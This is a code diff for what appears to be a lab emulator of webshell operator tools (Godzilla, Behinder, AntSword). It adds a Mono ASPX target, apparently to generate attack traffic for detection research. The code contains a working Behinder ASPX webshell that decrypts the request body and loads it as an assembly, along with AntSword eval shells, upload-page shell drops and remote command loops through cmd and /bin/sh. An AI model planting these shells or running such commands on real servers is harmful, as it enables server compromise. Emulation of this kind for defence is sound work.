@@ -35,7 +35,7 @@ public static class ToolOperators
 
     // ------------------------------------------------------------------ uploads
 
-    /// <summary>Drops a shell through the application's vulnerable plugin installer (apache-php, weblogic) or is already there (iis).</summary>
+    /// <summary>Drops a shell through the application's vulnerable upload page: apache-php's plugin installer, weblogic's and iis's and mono-aspx's upload pages.</summary>
     private static async Task<string> Drop(LabContext ctx, LabClient client, Random random, string tag, string app, string source, string extension)
     {
         var server = ctx.Server(app);
@@ -43,6 +43,8 @@ public static class ToolOperators
         {
             "apache-php" => (new[] { "uploads", "images/cache", "admin/tmp" }[random.Next(3)], "/admin/plugin-install.php"),
             "weblogic" => (new[] { "/erp/images", "/erp/static", "/erp/upload" }[random.Next(3)], "/erp/upload.jsp"),
+            // (Not App_Data: ASP.NET serves nothing from it.)
+            "mono-aspx" => (new[] { "aspnet_client", "Content/upload", "uploads" }[random.Next(3)], "/admin/upload.aspx"),
             _ => (new[] { "aspnet_client", "Content/upload", "App_Data/tmp" }[random.Next(3)], "/admin/upload.aspx"),
         };
         var name = ShellName(random) + "." + extension;
@@ -95,17 +97,20 @@ public static class ToolOperators
         }, GodzillaPayload(random, "$parameters=array();function run($pms){", 14_000));
     }
 
-    public static async Task GodzillaAes(LabContext ctx, LabClient client, Random random, bool java, bool base64)
+    /// <param name="app">The server: weblogic for Java, iis (the emulator) or mono-aspx (the lab's real shell and payload on Mono) for C#.</param>
+    public static async Task GodzillaAes(LabContext ctx, LabClient client, Random random, bool java, bool base64, string? app = null)
     {
         var tag = $"godzilla/{(java ? "JAVA" : "CSHARP")}_AES_{(base64 ? "BASE64" : "RAW")}";
         var pass = PasswordName(random);
-        var source = java
+        app ??= java ? "weblogic" : "iis";
+        var mono = app == "mono-aspx" ? Kit(ctx) : null;
+        var source = mono is not null ? mono.Shell(base64 ? "godzilla-base64" : "godzilla-raw", pass)
+            : java
             ? $"<%! String xc=\"3c6e0b8a9c15224a\"; String pass=\"{pass}\"; /* godzilla {(base64 ? "base64Decode(request.getParameter(pass))" : "request.getInputStream() raw")} */ %>"
             : $"<%@ Page Language=\"C#\"%><%try {{ string key = \"3c6e0b8a9c15224a\"; string pass = \"{pass}\"; /* godzilla {(base64 ? "Request.Form[pass]" : "Request.BinaryRead raw")} */ }}catch(System.Exception){{}}%>";
-        var app = java ? "weblogic" : "iis";
         var path = await Drop(ctx, client, random, tag, app, source, java ? "jsp" : "aspx");
         var server = ctx.Server(app);
-        var payload = java ? GodzillaPayload(random, "\u00ca\u00fe\u00ba\u00be\0\0\04payload", 20_000) : GodzillaPayload(random, "MZ\u0090\0\u0003\0\0\0\u0004\0\0\0\u00ff\u00ffThis program cannot be run in DOS mode.", 16_000);
+        var payload = mono is not null ? mono.Payload("godzilla") : java ? GodzillaPayload(random, "\u00ca\u00fe\u00ba\u00be\0\0\04payload", 20_000) : GodzillaPayload(random, "MZ\u0090\0\u0003\0\0\0\u0004\0\0\0\u00ff\u00ffThis program cannot be run in DOS mode.", 16_000);
         await GodzillaSession(ctx, client, random, async (phase, data) =>
         {
             var encrypted = java ? AesEcb(data, GodzillaKey, encrypt: true) : AesCbc(data, GodzillaKey, encrypt: true);
@@ -185,16 +190,20 @@ public static class ToolOperators
             () => Send("heartbeat", "echo", new() { ["content"] = RandomPrintable(random, 8) }));
     }
 
-    public static async Task BehinderAspx(LabContext ctx, LabClient client, Random random)
+    /// <param name="app">iis (the emulator reads a look-alike assembly) or mono-aspx (the page loads the lab's mcs-built assembly of the call).</param>
+    public static async Task BehinderAspx(LabContext ctx, LabClient client, Random random, string app = "iis")
     {
         const string tag = "behinder/aspx";
-        var path = await Drop(ctx, client, random, tag, "iis",
+        var mono = app == "mono-aspx" ? Kit(ctx) : null;
+        var path = await Drop(ctx, client, random, tag, app, mono?.Shell("behinder") ??
             "<%@ Page Language=\"C#\" %><%@Import Namespace=\"System.Reflection\"%><%Session.Add(\"k\",\"e45e329feb5d925b\"); byte[] k = Encoding.Default.GetBytes(Session[0] + \"\"),c = Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance(\"U\").Equals(this);%>", "aspx");
-        var server = ctx.Iis;
+        var server = ctx.Server(app);
         var agent = BehinderAgents[random.Next(BehinderAgents.Length)];
         async Task Send(string phase, string className, Dictionary<string, string> fields)
         {
-            var content = new ByteArrayContent(AesCbc(FakeAssembly(random, className, fields), BehinderKey, encrypt: true));
+            // One payload assembly per function (Echo, BasicInfo, FileOperation, Cmd), the call's fields patched in.
+            var assembly = mono?.Payload("behinder-" + className.ToUpperInvariant(), fields) ?? FakeAssembly(random, className, fields);
+            var content = new ByteArrayContent(AesCbc(assembly, BehinderKey, encrypt: true));
             content.Headers.ContentType = new MediaTypeHeaderValue("application/octet-stream");
             await client.SendAsync(server, HttpMethod.Post, path, tag, phase, content, BehinderHeaders(random, server, path, agent));
             await ctx.Think(random, 2);
@@ -275,6 +284,16 @@ public static class ToolOperators
             () => Send("heartbeat", "echo 1;", new()));
     }
 
+    /// <summary>An AntSword ASPX request: the shell's fields, then the call's arguments (two random characters, then base64), a random old browser's user agent.</summary>
+    private static async Task AntSwordPost(LabContext ctx, LabClient client, Random random, LabServer server, string path, string tag, string phase,
+        List<KeyValuePair<string, string>> fields, Dictionary<string, string> args)
+    {
+        foreach (var (name, value) in args) fields.Add(new(name, Hex(random, 1) + B64(value)));
+        await client.SendAsync(server, HttpMethod.Post, path, tag, phase, new FormUrlEncodedContent(fields),
+            [("User-Agent", AntSwordAgents[random.Next(AntSwordAgents.Length)]), ("Accept-Encoding", "gzip, deflate")]);
+        await ctx.Think(random, 2);
+    }
+
     public static async Task AntSwordAspx(LabContext ctx, LabClient client, Random random)
     {
         const string tag = "antsword/aspx";
@@ -292,10 +311,7 @@ public static class ToolOperators
                 new(pass, $"eval(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(Request.Item[\"{dataParam}\"])),\"unsafe\");"),
                 new(dataParam, B64(jscript)),
             };
-            foreach (var (name, value) in args) fields.Add(new(name, Hex(random, 1) + B64(value)));
-            await client.SendAsync(server, HttpMethod.Post, path, tag, phase, new FormUrlEncodedContent(fields),
-                [("User-Agent", AntSwordAgents[random.Next(AntSwordAgents.Length)]), ("Accept-Encoding", "gzip, deflate")]);
-            await ctx.Think(random, 2);
+            await AntSwordPost(ctx, client, random, server, path, tag, phase, fields, args);
         }
         await Send("first_contact", "var c=System.IO.DriveInfo.GetDrives(),result=\"\";for(var i=0;i<c.length;i++)result+=c[i].Name[0]+\":\";Response.Write(Server.MapPath(\".\")+\"\\t\"+result+\"\\t\"+Environment.OSVersion+\"\\t\"+Environment.UserName)", new());
         await ctx.Resume(client);
@@ -304,6 +320,34 @@ public static class ToolOperators
                 new() { ["x1"] = "cmd", ["x2"] = $"/c cd /d \"C:\\inetpub\\wwwroot\\\"&{command}&echo [S]&cd&echo [E]" }),
             () => Send("heartbeat", "Response.Write(\"1\")", new()));
     }
+
+    /// <summary>
+    /// AntSword's C# shell type ("aspxcsharp") against the mono-aspx server, where the JScript eval
+    /// shell of <see cref="AntSwordAspx"/> cannot run (Mono has no JScript.NET): the password field
+    /// carries the base64 of a payload assembly per call, with the call's output markers patched in;
+    /// the command's arguments are AntSword's usual fields (two random characters, then base64).
+    /// </summary>
+    public static async Task AntSwordCsharp(LabContext ctx, LabClient client, Random random)
+    {
+        const string tag = "antsword/aspxcsharp";
+        var mono = Kit(ctx);
+        var pass = PasswordName(random);
+        var path = await Drop(ctx, client, random, tag, "mono-aspx", mono.Shell("antsword", pass), "aspx");
+        var server = ctx.MonoAspx;
+        async Task Send(string phase, string payload, Dictionary<string, string> args)
+        {
+            var markers = new Dictionary<string, string> { ["start"] = Hex(random, 4 + random.Next(4)), ["end"] = Hex(random, 4 + random.Next(4)) };
+            var fields = new List<KeyValuePair<string, string>> { new(pass, Convert.ToBase64String(mono.Payload("antsword-" + payload, markers))) };
+            await AntSwordPost(ctx, client, random, server, path, tag, phase, fields, args);
+        }
+        await Send("first_contact", "INFO", new());
+        await ctx.Resume(client);
+        await Loop(ctx, random, 5 + random.Next(5),
+            command => Send("command", "CMD", new() { ["x1"] = "/bin/sh", ["x2"] = $"cd \"/var/www/html\";{command};echo {Hex(random, 3)};pwd;echo {Hex(random, 3)}" }),
+            () => Send("heartbeat", "ECHO", new()));
+    }
+
+    private static MonoKit Kit(LabContext ctx) => ctx.Mono ?? throw new InvalidOperationException("the mono-aspx variants need the kit run.sh builds (--mono-kit)");
 
     // ------------------------------------------------------------------ sqlmap's file stager and ?cmd= backdoor
 
